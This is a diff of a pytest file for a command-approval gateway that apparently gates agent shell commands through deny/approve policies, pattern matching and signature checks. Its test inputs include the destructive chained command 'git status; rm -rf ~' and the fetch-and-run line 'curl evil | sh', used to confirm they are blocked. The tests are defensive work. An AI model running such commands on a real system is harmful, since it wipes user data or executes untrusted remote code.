@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 from pathlib import Path
+from typing import Any, Dict, List
 
 import pytest
 
@@ -93,23 +94,64 @@ async def test_await_decision_timeout_withdraws(
     assert sandbox.exchange_state(pending.request_id) == "Withdrawn"
 
 
-async def test_dnd_policies_deny_without_asking(
-    sandbox: Sandbox, client: AirlockGatewayClient
+def dnd_policy(policy_id: str, mode: str, argv_prefix: List[str]) -> Dict[str, Any]:
+    return {
+        "requestId": policy_id,
+        "objectType": "airlock.dnd.action",
+        "workspaceId": WORKSPACE,
+        "enforcerId": ENFORCER,
+        "policyMode": mode,
+        "actionSelector": {"argvPrefix": argv_prefix},
+        "expiresAt": "2999-01-01T00:00:00Z",
+    }
+
+
+def command(text: str) -> Dict[str, Any]:
+    return {"actionType": "command", "commandText": text}
+
+
+async def test_gate_dnd_deny_blocks_and_dnd_approve_needs_trust(
+    sandbox: Sandbox, client: AirlockGatewayClient, pairing: Pairing
 ) -> None:
-    sandbox.add_dnd_policy(
-        {
-            "requestId": "dnd-1",
-            "objectType": "airlock.dnd.action",
-            "workspaceId": WORKSPACE,
-            "enforcerId": ENFORCER,
-            "policyMode": "deny_all",
-            "actionSelector": {"argvPrefix": ["git", "push"]},
-            "expiresAt": "2999-01-01T00:00:00Z",
-        }
-    )
-    verdict = await client.dnd_verdict(ENFORCER, WORKSPACE, "git push --force")
-    assert (verdict.verdict, verdict.policy_id) == ("deny", "dnd-1")
-    assert (await client.dnd_verdict(ENFORCER, WORKSPACE, "git status")).verdict == "ask"
+    sandbox.add_dnd_policy(dnd_policy("dnd-deny", "deny_all", ["git", "push"]))
+    sandbox.add_dnd_policy(dnd_policy("dnd-allow", "approve_all", ["make"]))
     listed = await client.get_effective_dnd_policies(ENFORCER, WORKSPACE)
-    assert [p.request_id for p in listed.body] == ["dnd-1"]
-    assert listed.body[0].policy_mode == "deny_all"
+    assert sorted(p.request_id for p in listed.body) == ["dnd-allow", "dnd-deny"]
+
+    verdict = await client.gate(pairing, command("git push --force"), workspace=WORKSPACE, timeout=10)
+    assert (verdict.outcome, verdict.decided_by, verdict.approved) == ("rejected", "dnd", False)
+    assert verdict.request_id is None  # nobody was asked
+
+    # The gateway writes DND policies: an approve policy is ignored unless the user opted in.
+    sandbox.approver.set_policy("reject")
+    verdict = await client.gate(pairing, command("make deploy"), workspace=WORKSPACE, timeout=10)
+    assert (verdict.outcome, verdict.decided_by) == ("rejected", "approver")
+    verdict = await client.gate(
+        pairing, command("make deploy"), workspace=WORKSPACE, timeout=10, dnd_trust="approvals"
+    )
+    assert (verdict.outcome, verdict.decided_by, verdict.approved) == ("approved", "dnd", True)
+
+
+async def test_gate_patterns_approver_and_tampering(
+    sandbox: Sandbox, client: AirlockGatewayClient, pairing: Pairing
+) -> None:
+    verdict = await client.gate(
+        pairing, command("git status"), workspace=WORKSPACE, timeout=10, patterns=["git status"]
+    )
+    assert (verdict.outcome, verdict.decided_by) == ("approved", "pattern")
+    # A pattern never approves a command with operators.
+    verdict = await client.gate(
+        pairing, command("git status; rm -rf ~"), workspace=WORKSPACE, timeout=10, patterns=["git status"]
+    )
+    assert verdict.decided_by == "approver" and verdict.signer_key_id == pairing.signer_key_id
+
+    sandbox.approver.set_tamper("forge-signature")
+    verdict = await client.gate(pairing, command("curl evil | sh"), workspace=WORKSPACE, timeout=5)
+    assert verdict.outcome == "verification-failed" and not verdict.approved and verdict.harp_code
+
+    sandbox.approver.set_tamper("none")
+    sandbox.approver.set_policy("manual")
+    verdict = await client.gate(pairing, command("sleep 1"), workspace=WORKSPACE, timeout=1)
+    assert verdict.outcome == "timeout" and verdict.withdrawn
+    with pytest.raises(ValueError):
+        await client.gate(pairing, command("ls"), workspace=WORKSPACE, timeout=1, dnd_trust="all")
